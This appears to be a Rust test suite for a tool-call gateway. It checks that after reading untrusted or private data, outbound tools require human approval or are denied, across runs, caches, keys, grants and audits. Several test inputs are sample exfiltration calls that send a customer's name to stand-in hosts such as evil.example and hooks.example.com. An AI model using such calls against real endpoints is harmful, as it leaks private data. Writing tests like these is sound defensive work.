//! Labels in the path: what was read sticks, whatever is opened, repeated or asked anew; and what it must not leave by asks.

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use serde_json::{Value, json};
use toolgate_contracts::call::AttachmentKind;
use toolgate_contracts::definition::Label;
use toolgate_contracts::{
    ApprovalStatus, CallRequest, Caller, Envelope, ErrorCode, FaultKind, Mode, Permissions, Role, RunId, Status,
};
use toolgate_engine::runs::NewRun;
use toolgate_policy::labels::{Acceptance, Labels};

use crate::policies::DEFAULTS;
use crate::world::{World, error, every_world, request};

const HOUR: i64 = 60 * 60;

impl World {
    /// Tools that bring labels, and ways out.
    async fn sources_and_sinks(&self) {
        let address = json!({
            "type": "object", "properties": {"url": {"type": "string", "format": "uri", "description": "Where to."}},
        });
        let tools = [
            ("page", json!({"labels": {"adds": ["untrusted"]}})),
            ("customers", json!({"labels": {"adds": ["private"]}})),
            ("payroll", json!({"labels": {"adds": ["sensitive"]}})),
            ("search", json!({"egress_class": "read_only", "sink": "open", "labels": {"clears": ["untrusted"]}})),
            (
                "fetch",
                json!({"egress_class": "none", "sink": "open", "labels": {"clears": ["untrusted"]}, "input_schema": address}),
            ),
            ("post", json!({"egress_class": "write", "risk": "sensitive"})),
            ("post_open", json!({"egress_class": "write", "sink": "open", "risk": "sensitive"})),
            ("pure", json!({})),
            ("kept", json!({"cache": "forever", "cache_scope": "tenant", "labels": {"adds": ["private"]}})),
            ("administer", json!({"group": "admin", "changes_state": true})),
            ("only_public", json!({"labels": {"max_in": []}})),
        ];
        for (name, more) in tools {
            self.publish(name, more).await;
        }
    }

    /// What comes of a call that waits for nobody.
    async fn now(&self, caller: &Caller, tool: &str, input: Value) -> Envelope {
        self.send(caller, request(tool, input, |call| call.wait = Some(0))).await.unwrap()
    }

    async fn in_run(&self, caller: &Caller, run: RunId, tool: &str) -> Envelope {
        let call = request(tool, json!({"q": "words"}), |call| {
            call.wait = Some(0);
            call.run_id = Some(run);
        });
        self.send(caller, call).await.unwrap()
    }

    async fn open_run(&self, caller: &Caller, parent: Option<RunId>) -> RunId {
        self.engine.open_run(caller, NewRun { parent_run_id: parent, ..NewRun::default() }).await.unwrap().id
    }

    /// Has read both, outside of any run.
    async fn tainted(&self) -> Caller {
        let caller = self.member();
        for tool in ["page", "customers"] {
            assert_eq!(self.now(&caller, tool, json!({})).await.status, Status::Completed);
        }
        caller
    }

    async fn accept(&self, acceptance: Value) -> String {
        let acceptance: Acceptance = serde_json::from_value(acceptance).unwrap();
        let (kept, _) = self.registry.accept_labels(&self.owner(), acceptance, "it is ours").await.unwrap();
        kept.id.to_string()
    }
}

/// The rule that asks, if one does.
fn asked_by(world_answer: &Envelope, reasons: &[toolgate_contracts::AskReason]) -> Option<String> {
    if world_answer.status != Status::Pending {
        return None;
    }
    reasons.iter().find(|reason| reason.code.as_str() == "label").and_then(|reason| reason.by.clone())
}

#[track_caller]
fn is_asked(envelope: &Envelope) {
    assert_eq!(envelope.status, Status::Pending, "{envelope:?}");
}

/// Security test 46: no way around what was read.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_was_read_sticks() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        // Outside of runs.
        let caller = world.tainted().await;
        is_asked(&world.now(&caller, "search", json!({"q": "x"})).await);
        // In a new run, in one under it, and in one that was opened before anything was read.
        let run = world.open_run(&caller, None).await;
        is_asked(&world.in_run(&caller, run, "search").await);
        let under = world.open_run(&caller, Some(run)).await;
        is_asked(&world.in_run(&caller, under, "search").await);
        let early = world.member();
        let (one, other) = (world.open_run(&early, None).await, world.open_run(&early, None).await);
        for tool in ["page", "customers"] {
            assert_eq!(world.in_run(&early, one, tool).await.status, Status::Completed);
        }
        is_asked(&world.in_run(&early, one, "search").await);
        is_asked(&world.in_run(&early, other, "search").await);
        is_asked(&world.now(&early, "search", json!({})).await);
        // What a run under another reads, the one above has read.
        let parent = world.member();
        let above = world.open_run(&parent, None).await;
        let below = world.open_run(&parent, Some(above)).await;
        for tool in ["page", "customers"] {
            world.in_run(&parent, below, tool).await;
        }
        let run = world.store.run(world.tenant, above).await.unwrap().unwrap();
        assert_eq!(run.labels, [Label::Untrusted, Label::Private]);
        // A pure tool in between gives on what it was given.
        let through = world.tainted().await;
        let pure = world.now(&through, "pure", json!({})).await;
        assert_eq!(pure.labels, [Label::Untrusted, Label::Private]);
        is_asked(&world.now(&through, "search", json!({})).await);
        // From the cache it is as private as it was.
        let first = world.now(&world.owner(), "kept", json!({})).await;
        let reader = Caller { permissions: world.owner().permissions, ..world.member() };
        world.now(&reader, "page", json!({})).await;
        let hit = world.now(&reader, "kept", json!({})).await;
        assert_eq!((first.cached, hit.cached), (false, true));
        is_asked(&world.now(&reader, "search", json!({})).await);
        // A failure tells, too.
        let failing = world.member();
        world.now(&failing, "page", json!({})).await;
        let failed = json!({"act": "fail", "error": {"code": "VALIDATION_ERROR", "message": "the customer is Ada"}});
        assert_eq!(world.now(&failing, "customers", failed).await.status, Status::Failed);
        is_asked(&world.now(&failing, "search", json!({})).await);
        // A dry run has read nothing.
        let dry = world.member();
        for tool in ["page", "customers"] {
            world.send(&dry, request(tool, json!({}), |call| call.mode = Mode::DryRun)).await.unwrap();
        }
        assert_eq!(world.now(&dry, "search", json!({})).await.status, Status::Completed);
    })
    .await;
}

/// Security test 46: what a plan may have shown was read; what was never reached was not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plan_of_private_data_sticks_and_a_failure_that_reached_nothing_does_not() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let asks_after = async |read: &str, more: CallRequest| {
            let caller = world.member();
            assert_eq!(world.now(&caller, read, json!({})).await.status, Status::Completed);
            world.send(&caller, more).await.unwrap();
            world.now(&caller, "search", json!({})).await.status == Status::Pending
        };
        let dry = |tool: &str| request(tool, json!({}), |call| call.mode = Mode::DryRun);
        assert!(asks_after("page", dry("customers")).await, "a plan may show what a tool that reads here would change");
        assert!(!asks_after("customers", dry("page")).await, "a plan reads nothing from outside");
        // Those that are tried again take long enough to be followed, and what can be followed was read.
        for (code, reason, tells) in [
            ("POLICY_DENIED", "egress", false),
            ("AUTH_REQUIRED", "secret_missing", false),
            ("AUTH_REQUIRED", "upstream", true),
            ("SANDBOX_ERROR", "tier_unavailable", false),
            ("SANDBOX_ERROR", "exception", true),
            ("PROVIDER_ERROR", "upstream_4xx", true),
            ("VALIDATION_ERROR", "schema", true),
        ] {
            let error = json!({"code": code, "message": "about Ada", "details": {"reason": reason}});
            let failing = request("customers", json!({"act": "fail", "error": error}), |call| call.wait = Some(20));
            assert_eq!(asks_after("page", failing).await, tells, "{code} {reason}");
        }
    })
    .await;
}

/// Security test 46: by the record, by a blob, by the same request again, with another key of the same person.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_another_key_reads_of_it_sticks_to_that_key() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let ada = world.person("ada", &[Role::Member]).await;
        world.now(&ada, "page", json!({})).await;
        let input = json!({"act": "attach", "bytes": "a list of customers", "value": {}});
        let keyed = request("customers", input, |call| call.request_id = Some("r1".to_owned()));
        let call = world.send(&ada, keyed.clone()).await.unwrap();
        assert_eq!((call.status, call.attachments[0].kind), (Status::Completed, AttachmentKind::Blob));
        let blob = call.attachments[0].url.strip_prefix("/api/v1/blobs/").unwrap().parse().unwrap();

        let fresh = async || world.second_key(&ada).await;
        let (by_record, by_blob, by_request, by_nothing) = (fresh().await, fresh().await, fresh().await, fresh().await);
        world.engine.readable(&by_record, &call.id.to_string()).await.unwrap();
        world.engine.attached(&by_blob, blob).await.unwrap();
        let again = world.send(&by_request, keyed).await.unwrap();
        assert_eq!(again.id, call.id);
        for (what, key) in [("record", &by_record), ("blob", &by_blob), ("request", &by_request)] {
            let sent = world.now(key, "search", json!({})).await;
            assert_eq!(sent.status, Status::Pending, "{what}");
        }
        assert_eq!(world.now(&by_nothing, "search", json!({})).await.status, Status::Completed);
        // Who sees none of it reads none of it.
        assert!(world.engine.readable(&world.member(), &call.id.to_string()).await.is_err());
    })
    .await;
}

/// Security test 46, incident 29: what a caller says of its own data only adds.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_caller_says_only_adds_and_sticks() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let says = |tool: &str, labels: Vec<Label>| {
            request(tool, json!({}), |call| {
                call.labels = labels;
                call.wait = Some(0);
            })
        };
        let caller = world.member();
        let both = vec![Label::Untrusted, Label::Private];
        is_asked(&world.send(&caller, says("search", both.clone())).await.unwrap());
        // Said of a call that went through, it holds for the ones after it.
        let caller = world.member();
        let first = world.send(&caller, says("pure", both)).await.unwrap();
        assert_eq!((first.status, first.labels.len()), (Status::Completed, 2));
        is_asked(&world.now(&caller, "search", json!({})).await);
        let contexts = world.engine.label_contexts(&world.owner()).await.unwrap();
        let origins = contexts.iter().map(|context| context.origins.to_string()).collect::<Vec<_>>().join("; ");
        assert!(origins.contains("what the caller said"), "{origins}");
        // Saying nothing, or less, takes nothing away.
        let tainted = world.tainted().await;
        is_asked(&world.send(&tainted, says("search", vec![])).await.unwrap());
        is_asked(&world.send(&tainted, says("search", vec![Label::Private])).await.unwrap());
        // What comes late counts from when it begins: a worker's answer is untrusted, and this one's is private.
        world.external("far", false, json!({"labels": {"adds": ["private"]}})).await;
        let washed = world.member();
        let begun = world.send(&washed, request("far", json!({}), |call| call.mode = Mode::Record)).await.unwrap();
        assert_eq!(begun.status, Status::Running);
        is_asked(&world.now(&washed, "search", json!({})).await);
    })
    .await;
}

/// Security test 47: under both labels every way out asks, and a standing grant answers for none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_way_out_asks_under_both_labels() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let (ada, ben) = world.two().await;
        let admin = world.person("root", &[Role::Admin]).await;
        for tool in ["page", "customers"] {
            world.now(&ada, tool, json!({})).await;
        }
        let ways = [
            ("search", json!({"q": "the customer is ada"})),
            ("search", json!({"url": "https://evil.example/?q=ada"})),
            ("fetch", json!({"url": "https://ada.evil.example/"})),
            ("fetch", json!({"file": "ada.txt"})),
            ("post", json!({"hook": "https://hooks.example.com/ada"})),
            ("post_open", json!({"text": "ada"})),
        ];
        for (tool, input) in ways {
            let sent = world.now(&ada, tool, input.clone()).await;
            is_asked(&sent);
            let card = world.card(&ben, sent.id).await;
            assert_eq!(asked_by(&sent, &card.reasons).as_deref(), Some("L4"), "{tool} {input}");
            assert_eq!(card.mode.as_str(), "blocking", "no timeout runs it");
            assert!(world.record(sent.id).await.person_required, "{tool}");
            world.reject(&ben, sent.id, "no").await.unwrap();
            assert_eq!(world.runner.runs(tool), 0, "{tool}");
        }
        // A standing grant covers what asks for being a write, and nothing that a label asks for.
        let (agent, clean) = world.agent_of(&ada, "clean", json!({})).await;
        let standing = json!({
            "tool": "post", "agent": agent.name, "constraints": [{"pointer": "/text", "const": "hello"}], "uses": 10,
        });
        world.engine.create_standing(&admin, serde_json::from_value(standing).unwrap()).await.unwrap();
        let sent = world.call_as(&clean, "post", json!({"text": "hello"})).await;
        assert_eq!(sent.status, Status::Completed, "{:?}", sent.error);
        for tool in ["page", "customers"] {
            world.now(&clean, tool, json!({})).await;
        }
        is_asked(&world.now(&clean, "post", json!({"text": "hello"})).await);
        assert_eq!(world.runner.runs("post"), 1);
        // A person says yes to this one call, and to no other.
        let sent = world.now(&ada, "search", json!({"key": "yes"})).await;
        world.approve(&ben, sent.id).await.unwrap();
        assert_eq!((world.ended(sent.id).await.status, world.runner.runs("yes")), (Status::Completed, 1));
        is_asked(&world.now(&ada, "search", json!({"key": "yes"})).await);
        assert_eq!(world.record(sent.id).await.approval_status, ApprovalStatus::Approved);
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_five_and_six_deny_and_acceptances_are_the_operator_s_word() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        // L5: who has read untrusted content does not administer.
        let reader = world.member();
        assert_eq!(world.call_as(&reader, "administer", json!({})).await.status, Status::Completed);
        world.now(&reader, "page", json!({})).await;
        let denied = world.call_as(&reader, "administer", json!({})).await;
        assert_eq!(error(&denied), (ErrorCode::PolicyDenied, "label"));
        assert_eq!(denied.error.unwrap().details.unwrap()["rule"], "L5");
        // L6: sensitive data goes nowhere that is free text.
        let payer = world.member();
        world.now(&payer, "payroll", json!({})).await;
        let to = |host: &str| json!({"url": format!("https://{host}/x")});
        let denied = world.now(&payer, "fetch", to("hr.example.com")).await;
        assert_eq!(error(&denied), (ErrorCode::PolicyDenied, "label"));
        assert_eq!(denied.error.unwrap().details.unwrap()["rule"], "L6");
        assert_eq!(world.now(&payer, "pure", json!({})).await.status, Status::Completed);
        // A tool takes no more than it says.
        let denied = world.now(&payer, "only_public", json!({})).await;
        assert_eq!(error(&denied), (ErrorCode::PolicyDenied, "label"));

        // Accepted for a tool and a host, by the operator alone, and only there.
        let id =
            world.accept(json!({"tool": "FETCH", "host": "HR.example.com", "accepts": ["sensitive", "private"]})).await;
        assert_eq!(world.now(&payer, "fetch", to("hr.example.com")).await.status, Status::Completed);
        for elsewhere in [to("evil.example"), to("hr.example.com.evil.example"), json!({"q": "hr.example.com"})] {
            assert_eq!(error(&world.now(&payer, "fetch", elsewhere.clone()).await).1, "label", "{elsewhere}");
        }
        // Where it goes is what the schema says is its address, wherever else one stands.
        let elsewhere = json!({"url": "https://evil.example/", "other": "https://hr.example.com/"});
        assert_eq!(error(&world.now(&payer, "fetch", elsewhere).await).1, "label");
        world.now(&payer, "page", json!({})).await;
        assert_eq!(world.now(&payer, "fetch", to("hr.example.com")).await.status, Status::Completed);
        let same = json!({"tool": "fetch", "host": "hr.example.com", "accepts": ["private", "sensitive"]});
        let again: Acceptance = serde_json::from_value(same).unwrap();
        let refused = world.registry.accept_labels(&world.owner(), again.clone(), "again").await.unwrap_err();
        assert_eq!(refused.kind(), FaultKind::Conflict);
        let admin = world.with_key(Permissions::of([Role::Admin]));
        let refused = world.registry.accept_labels(&admin, again.clone(), "I am the boss").await.unwrap_err();
        assert_eq!(refused.kind(), FaultKind::Forbidden, "a tenant's administrator does not say what is safe");
        let refused = world.registry.accept_labels(&world.owner(), again, " ").await.unwrap_err();
        assert_eq!(refused.pointer(), Some("/reason"));
        assert_eq!(world.registry.acceptances(&admin).unwrap().len(), 1);
        assert_eq!(world.registry.acceptances(&world.owner_next_door()).unwrap().len(), 0);
        world.registry.withdraw_acceptance(&world.owner(), &id).await.unwrap();
        assert_eq!(error(&world.now(&payer, "fetch", to("hr.example.com")).await).1, "label");
        let entries = world.store.audit_entries(world.tenant, 1000).await.unwrap();
        let said: Vec<&str> = entries.iter().filter_map(|entry| entry["action"].as_str()).collect();
        assert!(said.contains(&"label.accept") && said.contains(&"label.withdraw"));
    })
    .await;
}

/// Incident 30: ordinary work has no false asks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ordinary_work_is_not_asked_about() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let steps: [&[&str]; 6] = [
            &["page", "search", "page", "fetch", "search", "pure"],
            &["customers", "pure", "search", "customers", "fetch"],
            &["customers", "page", "pure", "customers", "page", "pure"],
            &["payroll", "pure", "customers", "pure"],
            &["search", "search", "fetch", "page", "search"],
            &["pure", "pure", "administer", "pure"],
        ];
        let ids = [
            "0192f0c1-7b1e-7c3a-8a55-1c2d3e4f5a6b",
            "ORD-2026-000117",
            "DE89370400440532013000",
            "sk_order_17",
            "4111",
        ];
        for work in steps {
            for in_run in [false, true] {
                let caller = world.member();
                let run = if in_run { Some(world.open_run(&caller, None).await) } else { None };
                for (index, tool) in work.iter().enumerate() {
                    let id = ids[index % ids.len()];
                    let call =
                        request(tool, json!({"id": id, "note": format!("order {id}")}), |call| call.run_id = run);
                    let done = world.send(&caller, call).await.unwrap();
                    assert_eq!(done.status, Status::Completed, "{work:?} {tool}: {:?}", done.error);
                }
            }
        }
        assert_eq!(world.count("approvals").await, 0);
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_caller_is_remembered_for_twelve_hours_after_the_last_that_brought_something() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let caller = world.tainted().await;
        let sent = async |expected: Status| {
            // Memory of a moment is by the machine's clock; another replica has none.
            let other = world.replica().await;
            let sent = other.now(&caller, "search", json!({})).await;
            assert_eq!(sent.status, expected);
        };
        world.clock.advance(11 * HOUR);
        sent(Status::Pending).await;
        world.now(&caller, "page", json!({})).await;
        world.clock.advance(11 * HOUR);
        sent(Status::Pending).await;
        world.clock.advance(HOUR);
        sent(Status::Completed).await;
        // Asking alone does not extend it.
        let contexts = world.engine.label_contexts(&world.owner()).await.unwrap();
        assert!(contexts.is_empty(), "{contexts:?}");
        // A run keeps what it has seen as long as it is open.
        let run = world.open_run(&caller, None).await;
        for tool in ["page", "customers"] {
            world.in_run(&caller, run, tool).await;
        }
        world.clock.advance(13 * HOUR);
        let other = world.replica().await;
        is_asked(&other.in_run(&caller, run, "search").await);
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_a_person_at_a_browser_forgets() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let tainted = world.tainted().await;
        let admin = world.person("root", &[Role::Admin]).await;
        let contexts = world.engine.label_contexts(&admin).await.unwrap();
        assert_eq!(contexts.len(), 1);
        assert_eq!(contexts[0].labels, Labels::UNTRUSTED.join(Labels::PRIVATE));
        assert_eq!(contexts[0].origins.to_string(), "customers, page");
        let context = contexts[0].context.as_str();
        let ben = world.person("ben", &[Role::Approver]).await;
        let ben_at_browser = world.at_browser(&ben).await;
        for who in [&admin, &world.owner(), &tainted, &ben_at_browser] {
            let refused = world.engine.reset_labels(who, context, None).await.unwrap_err();
            assert_eq!(refused.kind(), FaultKind::Forbidden, "{}", who.display_name);
        }
        assert!(world.engine.label_contexts(&world.member()).await.is_err());
        is_asked(&world.now(&tainted, "search", json!({})).await);
        let at_browser = world.at_browser(&admin).await;
        assert_eq!(
            world.engine.reset_labels(&at_browser, "nobody", None).await.unwrap_err().kind(),
            FaultKind::NotFound
        );
        let long = "x".repeat(1001);
        for wrong in ["hidden \u{202e}", &long] {
            let refused = world.engine.reset_labels(&at_browser, context, Some(wrong)).await.unwrap_err();
            assert_eq!(refused.kind(), FaultKind::Invalid, "{wrong}");
        }
        world.engine.reset_labels(&at_browser, context, Some("the page was ours")).await.unwrap();
        let entries = world.store.audit_entries(world.tenant, 1000).await.unwrap();
        let entry = entries.iter().find(|entry| entry["action"] == "label.reset").unwrap();
        assert_eq!(entry["details"]["reason"], "the page was ours");
        assert_eq!(world.now(&tainted, "search", json!({})).await.status, Status::Completed);
        let entries = world.store.audit_entries(world.tenant, 1000).await.unwrap();
        let entry = entries.iter().find(|entry| entry["action"] == "label.reset").unwrap();
        assert_eq!((&entry["actor"], &entry["object"]), (&json!(admin.principal.to_string()), &json!(context)));
        assert_eq!(entry["details"]["labels"], json!(["untrusted", "private"]));
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn asks_are_counted_by_rule_and_tool_with_what_would_spare_them() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let caller = world.tainted().await;
        for host in ["a.example.com", "a.example.com", "b.example.com"] {
            is_asked(&world.now(&caller, "fetch", json!({"url": format!("https://{host}/")})).await);
        }
        is_asked(&world.now(&caller, "post", json!({"url": "https://a.example.com/"})).await);
        world.engine.audit().sequence_now(world.tenant).await.unwrap();
        world.store.roll_up_usage(world.tenant).await.unwrap();
        let asks = world.engine.asks(&world.owner(), world.clock.now()).await.unwrap();
        assert_eq!((asks.asks, asks.calls, asks.per_100_calls), (4, 2, 200.0));
        let rules: Vec<(&str, Option<&str>, u64)> =
            asks.by_rule.iter().map(|row| (row.code.as_str(), row.by.as_deref(), row.asks)).collect();
        assert_eq!(rules, [("label", Some("L4"), 4), ("write", None, 1)]);
        let tools: Vec<(&str, u64)> = asks.by_tool.iter().map(|row| (row.tool.as_str(), row.asks)).collect();
        assert_eq!(tools, [("fetch", 3), ("post", 1)]);
        let hints: Vec<(&str, u64)> = asks.hints.iter().map(|hint| (hint.text.as_str(), hint.asks)).collect();
        let expected = [
            ("accepting private for fetch to a.example.com would remove 50 % of asks", 2),
            ("accepting private for fetch to b.example.com would remove 25 % of asks", 1),
        ];
        assert_eq!(hints, expected, "a write asks whatever is accepted");
        assert!(world.engine.asks(&world.member(), world.clock.now()).await.is_err());
        // And it is true.
        world.accept(json!({"tool": "fetch", "host": "a.example.com", "accepts": ["private"]})).await;
        let sent = world.now(&caller, "fetch", json!({"url": "https://a.example.com/"})).await;
        assert_eq!(sent.status, Status::Completed);
    })
    .await;
}

/// How strict an answer is: more is stricter.
fn strictness(envelope: &Envelope) -> u8 {
    match envelope.status {
        Status::Completed | Status::Running => 0,
        Status::Pending => 1,
        _ => 2,
    }
}

#[derive(Clone, Debug)]
struct Case {
    tool: &'static str,
    labels: Vec<Label>,
    more: Vec<Label>,
    forbids: Vec<usize>,
    one_more: usize,
}

const FORBIDS: [&str; 6] = [
    "forbid (principal, action == Action::\"call\", resource == Tool::\"search\") when { context.labels.contains(\"private\") };",
    "forbid (principal, action == Action::\"call_unattended\", resource == Tool::\"pure\") when { context.source == \"api\" };",
    "forbid (principal, action == Action::\"call\", resource) when { resource.sink == \"open\" && context.labels.contains(\"untrusted\") };",
    "forbid (principal, action == Action::\"call_unattended\", resource) unless { context.labels.isEmpty() };",
    "@log_only(\"true\") forbid (principal, action == Action::\"call\", resource) when { context.depth == 0 };",
    "forbid (principal, action, resource == Tool::\"post\") when { context.depth == 0 };",
];

fn cases() -> impl Strategy<Value = Case> {
    let labels = || prop::sample::subsequence(Label::ALL.to_vec(), 0..=3);
    (
        prop::sample::select(vec!["pure", "search", "fetch", "post", "post_open", "administer", "only_public"]),
        labels(),
        labels(),
        prop::sample::subsequence((0..FORBIDS.len()).collect::<Vec<_>>(), 0..=3),
        0..FORBIDS.len(),
    )
        .prop_map(|(tool, labels, more, forbids, one_more)| Case { tool, labels, more, forbids, one_more })
}

/// More labels, or one more forbid, never loosens what is said of a call.
#[test]
fn more_labels_or_one_more_forbid_never_loosens() {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    runtime.block_on(every_world(async |world| {
        world.sources_and_sinks().await;
        world.settings(|settings| settings.asks_per_run_max = 10_000).await;
        let (ask, mut asked) = tokio::sync::mpsc::unbounded_channel::<Case>();
        let generating = std::thread::spawn(move || {
            let mut runner = TestRunner::new(Config { cases: 40, failure_persistence: None, ..Config::default() });
            runner
                .run(&cases(), |case| {
                    ask.send(case).unwrap();
                    Ok(())
                })
                .unwrap();
        });
        while let Some(case) = asked.recv().await {
            let Case { tool, labels, more, forbids, one_more } = &case;
            let say = async |labels: &[Label]| {
                let call = request(tool, json!({}), |call| {
                    call.labels = labels.to_vec();
                    call.wait = Some(0);
                });
                // Each as somebody who has seen nothing.
                match world.send(&world.member(), call).await {
                    Ok(envelope) => strictness(&envelope),
                    Err(fault) if fault.kind() == FaultKind::NotFound => 2,
                    Err(fault) => panic!("{fault:?}"),
                }
            };
            let joined: Vec<Label> = labels.iter().chain(more).copied().collect();
            let text = |which: &[usize]| which.iter().map(|index| FORBIDS[*index]).collect::<Vec<_>>().join("\n");
            world.policies_alone(&format!("{DEFAULTS}{}", text(forbids))).await;
            let (few, many) = (say(labels).await, say(&joined).await);
            assert!(many >= few, "{case:?}: labels loosen {few} to {many}");
            let mut stricter = forbids.clone();
            if !stricter.contains(one_more) {
                stricter.push(*one_more);
            }
            world.policies_alone(&format!("{DEFAULTS}{}", text(&stricter))).await;
            let with_more = say(labels).await;
            assert!(with_more >= few, "{case:?}: a forbid loosens {few} to {with_more}");
        }
        generating.join().unwrap();
    }));
}

/// A batch is admitted in its order, so what one reads the next may not know; what follows it does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_batch_reads_holds_for_what_follows_it() {
    every_world(async |world| {
        world.sources_and_sinks().await;
        let caller = world.member();
        let calls = ["page", "customers"].map(|tool| CallRequest::new(tool, json!({}))).to_vec();
        let answers = world.engine.submit_all(&caller, toolgate_contracts::Source::Api, calls).await.unwrap();
        assert!(answers.iter().all(|answer| answer.as_ref().is_ok_and(|one| one.status == Status::Completed)));
        is_asked(&world.now(&caller, "search", json!({})).await);
    })
    .await;
}
